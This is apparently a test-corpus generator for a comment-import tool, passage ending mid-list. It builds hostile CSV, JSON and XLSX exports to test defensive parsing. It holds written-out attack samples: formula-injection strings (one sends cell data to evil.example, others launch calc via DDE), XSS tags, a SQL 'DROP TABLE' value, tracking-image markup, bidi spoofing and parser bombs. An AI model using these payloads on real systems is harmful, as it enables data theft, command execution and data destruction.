"""A corpus of hostile and broken comment exports, generated (nothing here is real data).

Each case says what a correct import does with it:

* ``error``  - refused with an IngestError whose message matches ``match``;
* ``ok``     - imported, and every text in ``texts`` is stored exactly as written;
* ``either`` - a clear IngestError or a correct import (e.g. a half-written last CSV row may be
  reported as a rejected row); what is never acceptable is a crash or a partial import.

``python tests/hostile/make_corpus.py OUTDIR`` writes every file for inspection by hand.
"""

from __future__ import annotations

import csv
import io
import json
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from monitor.quality import bombs

POST_URL = "https://www.instagram.com/p/CIhostile01/"
BASE_TEXTS = (
    "Semoga bansos cepat cair, Bu",
    "Kapan BST bulan ini dicairkan?",
    "Terima kasih Kemensos 🙏",
)
ZW = "\u200b\u200c\u200d\u2060\ufeff"  # zero-width space/joiners, word joiner, BOM
RTL = "\u202e\u200f\u061c"  # right-to-left override, RLM, Arabic letter mark


@dataclass(frozen=True)
class Case:
    name: str
    file_name: str
    make: Callable[[], bytes]
    expect: str  # "error" | "ok" | "either"
    match: str = ""  # regex the error message must match (expect == "error")
    texts: tuple[str, ...] = ()  # texts that must be stored verbatim (expect == "ok")
    settings: dict = field(default_factory=dict)  # Settings overrides (limits)
    heavy: bool = False  # run in a memory-capped subprocess: a blow-up must not take CI down

    def data(self) -> bytes:
        return self.make()


# --- well-formed building blocks ---------------------------------------------------------------


def apify_item(i: int, text: str, *, ts: str = "2020-12-06T03:15:00.000Z", **extra) -> dict:
    item = {
        "id": str(17900000000000000 + i),
        "text": text,
        "ownerUsername": f"warga_{i}",
        "timestamp": ts,
        "likesCount": i % 7,
        "postUrl": POST_URL,
        "repliesCount": 0,
        "replies": [],
    }
    item.update(extra)
    return item


def apify_json(texts=BASE_TEXTS, **extra) -> bytes:
    items = [apify_item(i, t, **extra) for i, t in enumerate(texts)]
    return json.dumps(items, ensure_ascii=False).encode("utf-8")


EC_HEADER = [
    "", "", "Name", "Username", "Profile ID", "Date", "Likes", "Comment", "User Verified",
    "Thumbnail", "Comment ID", "Profile URL", "Comment URL",
]  # fmt: skip


def ec_rows(texts=BASE_TEXTS, dates=None) -> list[list[str]]:
    rows = []
    for i, text in enumerate(texts):
        cid = str(18100000000000000 + i)
        date = dates[i] if dates else f"2020-12-0{1 + i % 9} 10:1{i % 10}:00"
        rows.append(
            [str(i + 1), "", f"Warga {i}", f"warga_{i}", str(4000 + i), date, str(i), text, "No",
             "", cid, f"https://www.instagram.com/warga_{i}", f"{POST_URL}c/{cid}/"]
        )  # fmt: skip
    return rows


def ec_csv(
    texts=BASE_TEXTS, *, delimiter=",", encoding="utf-8", dates=None, newline="\r\n"
) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator=newline)
    writer.writerow(EC_HEADER)
    writer.writerows(ec_rows(texts, dates))
    return buf.getvalue().encode(encoding)


def xlsx(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


# --- the cases --------------------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
HTML = (
    "<script>alert('xss')</script> bansos kapan cair?",
    "<img src=x onerror=alert(1)> tolong dicek",
    "</textarea><b>tebal</b> &amp; &lt;lt&gt; javascript:alert(1)",
)
ZERO_WIDTH = (f"ban{ZW}sos ka{ZW}pan cair", f"{ZW}terima kasih", "a\u200bb\u00ad\u034fc")
RTL_TEXTS = (f"{RTL}riac nakapak sosnab", "مرحبا bansos \u200f kapan", f"abc{RTL}def\u202c")

# Markup that Streamlit's Markdown would interpret, for every text field a page shows (author
# names, comment texts, event titles, file and mapping names, link parameters). Shown anywhere,
# each must read as the characters written: no image fetched from HOSTILE_HOST, no live link, no
# coloured badge, icon, emoji, formula, heading or HTML.
HOSTILE_HOST = "127.0.0.1:9"  # the discard port: a fetch fails at once, but is still seen
MARKUP = (
    f"![t](http://{HOSTILE_HOST}/track.png)",
    "[Klik untuk bantuan](http://evil.example/bantuan)",
    ":red[**PETUGAS RESMI**]",
    "<img src=x onerror=alert(1)>",
    "$x$ dan $$y^2$$",
    ":material/verified: :material_verified: :streamlit: Admin",
    ":smile: :+1: kapan cair",
    "**tebal** _miring_ ~~coret~~ `kode`",
    "# Judul palsu",
    "> kutipan palsu",
    "1. daftar palsu",
    f"http://{HOSTILE_HOST}/auto.png www.evil.example admin@evil.example",
    "<https://evil.example/auto> <admin@evil.example>",
    "&lt;b&gt; &amp; &#x3C;script&#x3E;",
    "[ref]: http://evil.example/ref",
    ":small[kecil] :blue-background[biru] :violet-badge[RESMI]",
    "<!-- komentar --> <b>tebal</b>",
    "| a | b |",
    "-> <- <-> -- >= <= ~=",
    "a\\*b\\* \\",
)
# Names that reorder or hide their neighbours on screen; shown, the controls are made visible.
BIDI_NAMES = (
    "\u202eRESMI\u202c_petugas",
    f"admin{ZW}",
    "warga\u2066\u2067\u2068\u2069\u200e\u200f",
    "\u3164\u115f",  # Hangul fillers: a name that looks blank
)
DISPLAY_NAMES = (*MARKUP, *BIDI_NAMES)


def markup_json() -> bytes:
    """One comment per hostile name, each text one of MARKUP (every one of them used)."""
    items = [
        apify_item(i, MARKUP[i % len(MARKUP)], ownerUsername=name)
        for i, name in enumerate(DISPLAY_NAMES)
    ]
    return json.dumps(items, ensure_ascii=False).encode("utf-8")


def _truncate(data: bytes, keep: float) -> bytes:
    return data[: max(1, int(len(data) * keep))]


def _nesting_bomb(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


def _dict_bomb(depth: int) -> bytes:
    inner = "{}"
    for _ in range(depth):
        inner = '{"replies": [' + inner + "]}"
    item = apify_item(0, "dalam")
    return ("[" + json.dumps(item)[:-1] + ', "owner": ' + inner + "}]").encode()


def _million_columns() -> bytes:
    header = ",".join(f"c{i}" for i in range(1_000_000))
    return (header + "\n" + "," * 999_999 + "\n").encode()


def _big_cell() -> bytes:
    return ec_csv(["x" * (10 * 1024 * 1024), "normal"])


def _big_json_cell() -> bytes:
    return apify_json(["y" * (10 * 1024 * 1024), "normal"])


def _xlsx_cases() -> list[Case]:
    header = EC_HEADER
    good = [header, *ec_rows(BASE_TEXTS)]
    with_formulas = [header, *ec_rows(FORMULAS)]
    return [
        Case("xlsx_ok", "ok.xlsx", lambda: xlsx(good), "ok", texts=BASE_TEXTS),
        Case(
            "xlsx_formula_cells",
            "formula.xlsx",
            lambda: xlsx(with_formulas),
            "either",
        ),
        Case(
            "xlsx_truncated",
            "cut.xlsx",
            lambda: _truncate(xlsx(good), 0.6),
            "error",
            match=r"(?i)workbook|xlsx|zip|read",
        ),  # fmt: skip
        Case("xlsx_empty_sheet", "empty.xlsx", lambda: xlsx([]), "error"),
        Case("zip_not_xlsx", "data.xlsx", _plain_zip, "error", match=r"(?i)xlsx|workbook"),
        Case("xlsx_header_only", "header.xlsx", lambda: xlsx([header]), "either"),
    ]


def _plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("comments.csv", ec_csv().decode())
    return out.getvalue()


FIELD_MARKUP = {
    "script": "<script>alert('x')</script>",
    "formula": '=HYPERLINK("http://evil.example","klik")',
    "sql": "'); DROP TABLE comments;--",
    "bidi": "\u202etxt.exe",
}


def _markup_everywhere_json() -> bytes:
    """Markup in every text field of an Apify comment (and its reply): stored verbatim."""
    items = []
    for i, (kind, value) in enumerate(FIELD_MARKUP.items()):
        reply = {"id": f"{value}-reply", "text": f"balas {value}", "ownerUsername": value,
                 "timestamp": "2020-12-06T05:15:00.000Z", "likesCount": 0}  # fmt: skip
        items.append(
            apify_item(
                i,
                f"{kind}: {value}",
                id=f"{value}-{i}",
                ownerUsername=value,
                postUrl=f"{POST_URL}?x={value}",
                replies=[reply],
            )  # fmt: skip
        )
    return json.dumps(items, ensure_ascii=False).encode()


def _markup_everywhere_rows() -> list[list[str]]:
    rows = []
    for i, (kind, value) in enumerate(FIELD_MARKUP.items()):
        rows.append(
            [str(i + 1), "", value, value, value, "2020-12-06 10:00:00", "1", f"{kind}: {value}",
             value, value, f"{value}-{i}", value, f"{POST_URL}c/{i}/?{value}"]
        )  # fmt: skip
    return rows


def _markup_everywhere_csv() -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow(EC_HEADER)
    writer.writerows(_markup_everywhere_rows())
    return buf.getvalue().encode()


MARKUP_TEXTS = tuple(f"{kind}: {value}" for kind, value in FIELD_MARKUP.items())


# --- the other platforms' readers -------------------------------------------------------------

TH_HEADER = [
    "conversation_id_str", "created_at", "favorite_count", "full_text", "id_str", "image_url",
    "in_reply_to_screen_name", "lang", "location", "quote_count", "reply_count",
    "retweet_count", "tweet_url", "user_id_str", "username",
]  # fmt: skip


def th_row(i: int, text: str, **extra: str) -> list[str]:
    """A tweet-harvest 2.7 row (a reply to tweet 0 for i > 0)."""
    tid = str(1335420000000000000 + i)
    row = {"conversation_id_str": "1335420000000000000", "created_at": "2020-12-06T03:15:00.000Z",
           "favorite_count": str(i), "full_text": text, "id_str": tid, "image_url": "",
           "in_reply_to_screen_name": "warga_0" if i else "", "lang": "in", "location": "",
           "quote_count": "0", "reply_count": "0", "retweet_count": "0",
           "tweet_url": f"https://x.com/warga_{i}/status/{tid}", "user_id_str": str(9000 + i),
           "username": f"warga_{i}"}  # fmt: skip
    row.update(extra)
    return [row[c] for c in TH_HEADER]


def th_csv(rows: list[list[str]]) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerows([TH_HEADER, *rows])
    return buf.getvalue().encode()


def _markup_everywhere_th() -> bytes:
    """Markup in every text field of a tweet-harvest row: stored verbatim."""
    return th_csv(
        [
            th_row(
                i,
                f"{kind}: {value}",
                id_str=f"{value}-{i}",
                conversation_id_str=value,
                username=value,
                in_reply_to_screen_name=value,
                location=value,
                image_url=value,
                tweet_url=value,
                user_id_str=value,
            )  # fmt: skip
            for i, (kind, value) in enumerate(FIELD_MARKUP.items())
        ]
    )


def _odd_th() -> bytes:
    """Ids that are not ids, times that are not times, in both of tweet-harvest's formats."""
    rows = [th_row(0, "id NaN", id_str="NaN"), th_row(1, "id inf", id_str="Infinity"),
            th_row(2, "parent nan", conversation_id_str="nan"),
            th_row(3, "id panjang", id_str="9" * 5000),
            th_row(4, "30 Februari", created_at="Sun Feb 30 10:00:00 +0000 2020"),
            th_row(5, "jam 25", created_at="Sun Dec 06 25:00:00 +0000 2020"),
            th_row(6, "zona +2500", created_at="Sun Dec 06 10:00:00 +2500 2020"),
            th_row(7, "tahun 9999", created_at="Fri Dec 31 10:00:00 +0000 9999"),
            th_row(8, "waktu 2.6 baik", created_at="Sun Dec 06 10:00:00 +0000 2020"),
            th_row(9, "waktu 2.7 baik")]  # fmt: skip
    return th_csv(rows)


def x_tweet(i: int, text: str, **extra: object) -> dict:
    """An X API v2 tweet (a reply to tweet 0 for i > 0)."""
    tid = str(1335500000000000000 + i)
    tweet = {"id": tid, "text": text, "created_at": "2020-12-06T03:15:00.000Z",
             "author_id": str(9000 + i), "conversation_id": "1335500000000000000",
             "public_metrics": {"like_count": i, "reply_count": 0}}  # fmt: skip
    if i:
        tweet["referenced_tweets"] = [{"type": "replied_to", "id": "1335500000000000000"}]
    tweet.update(extra)
    return tweet


def x_page(tweets: list, users: list[dict] | None = None, *, array: bool = False) -> bytes:
    users = users or [{"id": t["author_id"], "username": f"warga_{n}", "name": f"Warga {n}"}
                      for n, t in enumerate(tweets)
                      if isinstance(t, dict) and isinstance(t.get("author_id"), str)]  # fmt: skip
    page = {"data": tweets, "includes": {"users": users}, "meta": {"result_count": len(tweets)}}
    return json.dumps([page] if array else page, ensure_ascii=False).encode()


def _markup_everywhere_x() -> bytes:
    """Markup in every text field of X API tweets and their users: stored verbatim."""
    tweets, users = [], []
    for i, (kind, value) in enumerate(FIELD_MARKUP.items()):
        tweets.append(x_tweet(i + 1, f"{kind}: {value}", id=f"{value}-{i}", author_id=value,
                              conversation_id=value,
                              referenced_tweets=[{"type": "replied_to", "id": value}],
                              note_tweet={"text": f"{kind}: {value}"}))  # fmt: skip
        users.append({"id": value, "username": value, "name": value})
    return x_page(tweets, users)


def _odd_x() -> bytes:
    tweets = [x_tweet(0, "id NaN", id=float("nan")), x_tweet(1, "id inf", id=float("inf")),
              x_tweet(2, "id list", id=[1, 2]), x_tweet(3, "author dict", author_id={"a": 1}),
              x_tweet(4, "metrics string", public_metrics="banyak"),
              x_tweet(5, "refs string", referenced_tweets="replied_to"),
              x_tweet(6, "waktu epoch", created_at=1607224500),
              x_tweet(7, "waktu aneh", created_at="Sun Feb 30 10:00:00 +0000 2020"),
              x_tweet(8, "waktu baik"), "bukan tweet", None]  # fmt: skip
    return x_page(tweets, array=True)  # a list of pages: NaN is read by the standard parser


def yt_comment(i: int, text: str, parent: str | None = None, **snippet: object) -> dict:
    cid = f"Ugz{i:020d}AaABAg" + (f".{i:022d}" if parent else "")
    body = {"videoId": "Xk3kqv1b2Ps", "channelId": "UCkemensosRIbansos2020xA",
            "textOriginal": text, "textDisplay": text, "authorDisplayName": f"@warga_{i}",
            "authorChannelUrl": f"http://www.youtube.com/@warga_{i}",
            "authorChannelId": {"value": f"UC{i:022d}"}, "likeCount": i,
            "publishedAt": "2020-12-06T03:15:00Z"}  # fmt: skip
    if parent:
        body["parentId"] = parent
    body.update(snippet)
    return {"kind": "youtube#comment", "id": cid, "snippet": body}


def yt_page(threads: list) -> bytes:
    page = {"kind": "youtube#commentThreadListResponse", "items": threads}
    return json.dumps(page, ensure_ascii=False).encode()


def yt_thread(top: dict, *replies: dict) -> dict:
    snippet = {"videoId": top["snippet"].get("videoId"), "channelId": "UCkemensosRIbansos2020xA",
               "topLevelComment": top}  # fmt: skip
    return {"kind": "youtube#commentThread", "id": top["id"], "snippet": snippet,
            "replies": {"comments": list(replies)}}  # fmt: skip


def _markup_everywhere_yt() -> bytes:
    """Markup in every text field of a YouTube thread and its reply: stored verbatim."""
    threads = []
    for i, (kind, value) in enumerate(FIELD_MARKUP.items()):
        fields = {"authorDisplayName": value, "authorChannelUrl": value, "videoId": value,
                  "authorChannelId": {"value": value}, "textDisplay": value}  # fmt: skip
        top = dict(yt_comment(i, f"{kind}: {value}", **fields), id=f"{value}-{i}")
        reply = dict(yt_comment(i + 10, f"balas {value}", parent=value, **fields), id=value)
        threads.append(yt_thread(top, reply))
    return yt_page(threads)


def _odd_yt() -> bytes:
    threads = [yt_thread(dict(yt_comment(0, "id NaN"), id="NaN")),
               yt_thread(yt_comment(1, "snippet list"), "bukan komentar", {"snippet": [1]}),
               yt_thread(yt_comment(2, "waktu aneh", publishedAt="2020-13-45T99:00:00Z")),
               yt_thread(yt_comment(3, "suka teks", likeCount="banyak")),
               yt_thread(yt_comment(4, "", textOriginal=None, textDisplay="hanya &lt;tampilan&gt;")),
               yt_thread(yt_comment(5, "channel angka", authorChannelId={"value": 12345})),
               {"kind": "youtube#commentThread", "snippet": "rusak"},
               yt_thread(yt_comment(6, "waktu baik"))]  # fmt: skip
    return json.dumps([{"items": threads}]).encode()


def fb_item(i: int, text: object, **extra: object) -> dict:
    """An Apify Facebook comment (a reply to comment 0 for i > 0)."""
    cid = str(3712345678900000 + i)
    post = "https://www.facebook.com/KemensosRI/posts/pfbid02Hostile"
    link = f"{post}?comment_id=3712345678900000" + (f"&reply_comment_id={cid}" if i else "")
    item = {"facebookUrl": post, "commentUrl": link, "id": f"c{i}", "feedbackId": f"f{i}",
            "date": "2020-12-06T03:15:00.000Z", "text": text, "profileName": f"Warga {i}",
            "profileUrl": f"https://www.facebook.com/warga.{i}", "profileId": f"pfbid0w{i}",
            "likesCount": str(i), "threadingDepth": 1 if i else 0, "facebookId": "3712345678901234",
            "postTitle": "Penyaluran BST"}  # fmt: skip
    item.update(extra)
    return item


def _markup_everywhere_fb() -> bytes:
    """Markup in every text field of an Apify Facebook comment: stored verbatim."""
    items = []
    for i, (kind, value) in enumerate(FIELD_MARKUP.items()):
        items.append(fb_item(i, f"{kind}: {value}", commentUrl=value, id=value, commentId=value,
                             profileName=value, profileUrl=value, profileId=value,
                             facebookId=value, facebookUrl=value, postTitle=value))  # fmt: skip
    return json.dumps(items, ensure_ascii=False).encode()


def _odd_fb() -> bytes:
    items = [fb_item(0, "id NaN", commentId=float("nan"), commentUrl=None),
             fb_item(1, "likes aneh", likesCount="1,2 rb"), fb_item(2, "likes null", likesCount=None),
             fb_item(3, "kedalaman teks", threadingDepth="satu"),
             fb_item(4, "url rusak", commentUrl="https://[::1/?comment_id=1&reply_comment_id="),
             fb_item(5, "base64 rusak", commentUrl=None, id="!!!not base64!!!"),
             fb_item(6, "waktu aneh", date="2020-02-30T10:00:00.000Z"),
             fb_item(7, None), fb_item(8, "waktu baik")]  # fmt: skip
    return json.dumps(items).encode()


def tt_item(i: int, text: object, **extra: object) -> dict:
    """An Apify TikTok comment (a reply to comment 0 for i > 0)."""
    url = "https://www.tiktok.com/@kemensosri/video/6903412345678901234"
    item = {"videoWebUrl": url, "submittedVideoUrl": url, "cid": str(6903500000000000000 + i),
            "createTime": 1607224500, "createTimeISO": "2020-12-06T03:15:00.000Z", "text": text,
            "diggCount": i, "repliesToId": "6903500000000000000" if i else None,
            "replyCommentTotal": 0, "uniqueId": f"warga.{i}", "uid": str(6812345678900000000 + i),
            "likedByAuthor": False, "pinnedByAuthor": False}  # fmt: skip
    item.update(extra)
    return item


def _markup_everywhere_tt() -> bytes:
    """Markup in every text field of an Apify TikTok comment: stored verbatim."""
    items = [tt_item(i, f"{kind}: {value}", cid=value, repliesToId=value, uniqueId=value, uid=value,
                     videoWebUrl=f"https://www.tiktok.com/@{value}/video/1{i}", avatarThumbnail=value)
             for i, (kind, value) in enumerate(FIELD_MARKUP.items())]  # fmt: skip
    return json.dumps(items, ensure_ascii=False).encode()


def _odd_tt() -> bytes:
    items = [tt_item(0, "cid NaN", cid=float("nan")), tt_item(1, "cid angka", cid=6903500000000000001),
             tt_item(2, "waktu ms", createTime=1607224500123),
             tt_item(3, "waktu teks", createTime="kemarin", createTimeISO="kemarin"),
             tt_item(4, "waktu negatif", createTime=-5),
             tt_item(5, "video tanpa id", videoWebUrl="https://www.tiktok.com/@kemensosri"),
             tt_item(6, "suka teks", diggCount="12 rb"), tt_item(7, ["bukan", "teks"]),
             tt_item(8, "waktu baik")]  # fmt: skip
    return json.dumps(items).encode()


def _platform_cases() -> list[Case]:
    """Markup in every field, odd ids and times, for each reader of the other platforms."""
    return [
        Case("markup_in_every_tweet_harvest_field", "markup-x.csv", _markup_everywhere_th, "ok",
             texts=MARKUP_TEXTS),
        Case("tweet_harvest_odd_ids_and_times", "odd-x.csv", _odd_th, "ok",
             texts=("waktu 2.6 baik", "waktu 2.7 baik")),
        Case("markup_in_every_x_api_field", "markup-x.json", _markup_everywhere_x, "ok",
             texts=MARKUP_TEXTS),
        Case("x_api_odd_ids_and_times", "odd-x.json", _odd_x, "ok",
             texts=("waktu baik", "waktu epoch", "author dict")),
        Case("x_api_truncated", "cut-x.json",
             lambda: _truncate(x_page([x_tweet(i, t) for i, t in enumerate(BASE_TEXTS)]), 0.7),
             "error", match=r"(?i)json"),
        Case("markup_in_every_youtube_field", "markup-yt.json", _markup_everywhere_yt, "ok",
             texts=(*MARKUP_TEXTS, *(f"balas {v}" for v in FIELD_MARKUP.values()))),
        Case("youtube_odd_ids_and_times", "odd-yt.json", _odd_yt, "ok",
             texts=("waktu baik", "suka teks", "hanya <tampilan>", "channel angka")),
        Case("youtube_nan_is_not_json", "nan-yt.json",
             lambda: yt_page([yt_thread(dict(yt_comment(0, "id NaN"), id=float("nan")))]),
             "error", match=r"invalid JSON"),  # pages are streamed by a strict parser
        Case("markup_in_every_facebook_field", "markup-fb.json", _markup_everywhere_fb, "ok",
             texts=MARKUP_TEXTS),
        Case("facebook_odd_ids_likes_and_times", "odd-fb.json", _odd_fb, "ok",
             texts=("waktu baik", "likes aneh", "likes null", "url rusak", "base64 rusak")),
        Case("markup_in_every_tiktok_field", "markup-tt.json", _markup_everywhere_tt, "ok",
             texts=MARKUP_TEXTS),
        Case("tiktok_odd_ids_and_times", "odd-tt.json", _odd_tt, "ok",
             texts=("waktu baik", "cid angka", "waktu ms", "video tanpa id", "suka teks")),
        Case("tweet_harvest_truncated", "cut-x.csv",
             lambda: _truncate(th_csv([th_row(i, t) for i, t in enumerate(BASE_TEXTS)]), 0.6),
             "either"),
    ]  # fmt: skip


def _late_cp1252() -> bytes:
    """UTF-8 for more than the first megabyte, then a cp1252 comment."""
    filler = [f"komentar {i} " + "x" * 300 for i in range(3500)]
    head = ec_csv(filler)
    tail = ec_csv(["café di akhir ½"], encoding="cp1252").split(b"\r\n", 1)[1]
    return head + tail.replace(b"18100000000000000", b"18199999999999999")


def _late_utf8() -> bytes:
    """cp1252 for more than the first megabyte, then a UTF-8 comment with emoji."""
    filler = [f"naïve {i} " + "y" * 300 for i in range(3500)]
    head = ec_csv(filler, encoding="cp1252")
    tail = ec_csv(["çà marah 😡"]).split(b"\r\n", 1)[1]
    return head + tail.replace(b"18100000000000000", b"18199999999999999")


def _late_nul() -> bytes:
    """A NUL character after the first 64 KB (binary sniffing looks no further)."""
    filler = [f"komentar {i} " + "x" * 100 for i in range(700)]
    return ec_csv([*filler, "Sem\x00oga cair"])


def _cr_in_field() -> bytes:
    return ec_csv(["baris satu\rbaris dua", "biasa"]).replace(b'"baris satu\rbaris dua"',
                                                              b"baris satu\rbaris dua")  # fmt: skip


def _odd_ids_json() -> bytes:
    items = [apify_item(0, "tanpa id sah", id=float("inf")), apify_item(1, "juga", id=float("nan")),
             apify_item(2, "teks", id="Infinity"), apify_item(3, "id baik sekali")]  # fmt: skip
    return json.dumps(items).encode()


def _odd_likes_json() -> bytes:
    items = [apify_item(0, "suka tak terhingga", likesCount=float("inf")),
             apify_item(1, "suka negatif", likesCount=-3), apify_item(2, "suka 1e20", likesCount=1e20)]  # fmt: skip
    return json.dumps(items).encode()


def _conflicting_texts_json() -> bytes:
    items = [apify_item(0, "teks asli"), apify_item(1, "lain"), apify_item(0, "teks pengganti")]
    return json.dumps(items).encode()


def _impersonated_owner_csv() -> bytes:
    rows = ec_rows(["Bansos belum cair, tolong", "Mohon DM ya"])
    rows[1][0], rows[1][2], rows[1][3] = "1.1", "KemensosRI", ""  # a display name, no handle
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow(EC_HEADER)
    writer.writerows(rows)
    return buf.getvalue().encode()


ODD_TIMES = (
    "2020-02-30T10:00:00Z", "2020-12-06T25:00:00Z", "-1", "1e400", "   ", "NaN",
    "2020-12-06T03:15:00+14:00", "١٢/٠٦/٢٠٢٠", "2020-12-06T03:15:00.123456789Z",
)  # fmt: skip


def _odd_times_json() -> bytes:
    items = [apify_item(i, f"waktu {i}", timestamp=t) for i, t in enumerate(ODD_TIMES)]
    return json.dumps([*items, apify_item(99, "waktu baik")], ensure_ascii=False).encode()


def _bomb_cases() -> list[Case]:
    """Small versions of ``monitor.quality.bombs``: refused, in a capped subprocess."""
    return [
        Case("bomb_wide_pipe_header", "wide-pipe.csv", lambda: bombs.wide_header(300_000, "|"),
             "error", match=r"300000 columns", heavy=True),
        Case("bomb_wide_header_below_banner", "wide.csv", lambda: bombs.wide_header(300_000, ","),
             "error", match=r"line 2\) has 300000 columns", heavy=True),
        Case("bomb_wide_first_row", "wide-row.csv", lambda: bombs.wide_first_row(300_000),
             "error", match=r"300000 fields but the header has 13", heavy=True),
        Case("bomb_long_line", "line.csv", lambda: bombs.long_line(6), "error",
             match=r"longer than 4 MB", heavy=True),
        Case("bomb_xlsx_far_dimension", "far.xlsx", bombs.xlsx_far_dimension, "error",
             match=r"claims 16384 columns", heavy=True),
        Case("bomb_xlsx_far_cell", "far-cell.xlsx", bombs.xlsx_far_cell, "error",
             match=r"column 16384", heavy=True),
        Case("bomb_xlsx_wide_row", "wide-row.xlsx", lambda: bombs.xlsx_wide_row(300_000),
             "error", match=r"column 2001|inflates", heavy=True),
        Case("bomb_xlsx_shared_strings", "strings.xlsx", lambda: bombs.xlsx_shared_strings(48),
             "error", match=r"sharedStrings.xml inflates", heavy=True),
        Case("bomb_xlsx_over_row_limit", "rows.xlsx", lambda: bombs.xlsx_rows(3000), "error",
             match=r"max_rows_per_import", settings={"max_rows_per_import": 100}),
    ]  # fmt: skip


def _later_cases() -> list[Case]:
    """Encodings, ids, times and markup the readers must handle or reject per row."""
    return [
        Case("late_cp1252", "late-cp1252.csv", _late_cp1252, "ok", texts=("café di akhir ½",)),
        Case("late_utf8_after_cp1252", "late-utf8.csv", _late_utf8, "ok",
             texts=("çà marah 😡", "naïve 0 " + "y" * 300)),
        Case("json_cp1252_bytes", "cp1252.json",
             lambda: apify_json(["CAFE enak", "biasa"]).replace(b"CAFE", "café".encode("cp1252")),
             "ok", texts=("café enak",)),
        Case("utf16_invalid_surrogate", "utf16-bad.csv",
             lambda: ec_csv(["AAAA", "BBBB"], encoding="utf-16").replace(
                 "AAAA".encode("utf-16-le"), b"\x00\xd8A\x00A\x00A\x00"), "either"),
        Case("nul_after_64kb", "late-nul.csv", _late_nul, "ok", texts=("Semoga cair",)),
        Case("bare_cr_in_unquoted_field", "cr.csv", _cr_in_field, "ok",
             texts=("baris satu\rbaris dua",)),
        Case("json_nan_infinity_ids", "ids.json", _odd_ids_json, "ok", texts=("id baik sekali",)),
        Case("csv_nan_ids", "ids.csv",
             lambda: ec_csv(["x", "y", "z"]).replace(b"18100000000000000", b"NaN", 1)
             .replace(b"18100000000000001", b"inf", 1), "ok", texts=("z",)),
        Case("json_odd_likes", "likes.json", _odd_likes_json, "ok",
             texts=("suka tak terhingga", "suka negatif", "suka 1e20")),
        Case("json_conflicting_texts", "conflict.json", _conflicting_texts_json, "ok",
             texts=("teks asli",)),
        Case("impersonated_owner_reply", "owner.csv", _impersonated_owner_csv, "ok",
             texts=("Mohon DM ya",)),
        Case("odd_timestamps", "times.json", _odd_times_json, "ok", texts=("waktu baik",)),
        Case("markup_in_every_json_field", "markup.json", _markup_everywhere_json, "ok",
             texts=MARKUP_TEXTS),
        Case("markup_in_every_csv_field", "markup.csv", _markup_everywhere_csv, "ok",
             texts=MARKUP_TEXTS),
        Case("markup_in_every_xlsx_cell", "markup.xlsx",
             lambda: xlsx([EC_HEADER, *_markup_everywhere_rows()]), "ok", texts=MARKUP_TEXTS),
    ]  # fmt: skip


def cases() -> list[Case]:
    """Every hostile input, cheapest first."""
    base_json = apify_json()
    base_csv = ec_csv()
    items = [
        # --- empty and not-a-table ---
        Case("empty", "empty.csv", lambda: b"", "error", match=r"(?i)empty"),
        Case("whitespace_only", "blank.csv", lambda: b" \r\n\t\n\n", "error", match=r"(?i)empty"),
        Case("bom_only", "bom.csv", lambda: b"\xef\xbb\xbf", "error", match=r"(?i)empty"),
        Case(
            "binary_garbage",
            "noise.csv",
            lambda: bytes(range(256)) * 64,
            "error",
            match=r"(?i)binary|not a csv",
        ),  # fmt: skip
        Case("png_named_csv", "image.csv", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 200, "error"),
        Case("gzip", "export.json", lambda: b"\x1f\x8b\x08\x00" + b"\x00" * 100, "error"),
        Case(
            "old_xls",
            "old.xls",
            lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
            "error",
            match=r"(?i)xls",
        ),  # fmt: skip
        Case("single_column_text", "notes.csv", lambda: b"halo\napa kabar\n", "error"),
        # --- truncated ---
        Case(
            "json_truncated",
            "cut.json",
            lambda: _truncate(base_json, 0.5),
            "error",
            match=r"(?i)json",
        ),  # fmt: skip
        Case(
            "json_truncated_in_string",
            "cut2.json",
            lambda: base_json[: base_json.index(b"cair")],
            "error",
            match=r"(?i)json",
        ),  # fmt: skip
        Case(
            "csv_truncated_in_quote",
            "cut.csv",
            lambda: base_csv[: base_csv.rindex(b"Terima") + 4],
            "either",
        ),  # fmt: skip
        Case(
            "csv_header_only", "header.csv", lambda: base_csv.split(b"\r\n")[0] + b"\r\n", "either"
        ),
        # --- JSON shapes ---
        Case("json_object", "obj.json", lambda: b'{"hello": "world"}', "error"),
        Case("json_scalar_array", "nums.json", lambda: b"[1, 2, 3]", "error"),
        Case("json_null", "null.json", lambda: b"[null]", "error"),
        Case("json_nesting_bomb", "bomb.json", lambda: _nesting_bomb(200_000), "error", heavy=True),
        Case("json_dict_bomb", "dictbomb.json", lambda: _dict_bomb(5_000), "either", heavy=True),
        Case(
            "json_nan_infinity",
            "nan.json",
            lambda: apify_json(BASE_TEXTS).replace(b'"likesCount": 1', b'"likesCount": NaN'),
            "either",
        ),  # fmt: skip
        Case("json_bom", "bom.json", lambda: b"\xef\xbb\xbf" + base_json, "ok", texts=BASE_TEXTS),
        Case(
            "json_nulls_between_items",
            "holes.json",
            lambda: b"[null, " + base_json[1:-1] + b', 42, "x"]',
            "either",
        ),  # fmt: skip
        Case(
            "json_lone_surrogate",
            "surrogate.json",
            lambda: (
                b'[{"id": "1", "text": "halo \\ud800 dunia", "ownerUsername": "a",'
                b' "timestamp": "2020-12-06T03:15:00.000Z", "postUrl": "'
                + POST_URL.encode()
                + b'"}]'
            ),
            "either",
        ),  # fmt: skip
        Case(
            "json_nul_char",
            "nul.json",
            lambda: apify_json(["nol\u0000byte di tengah", "biasa"]),
            "either",
        ),  # fmt: skip
        Case(
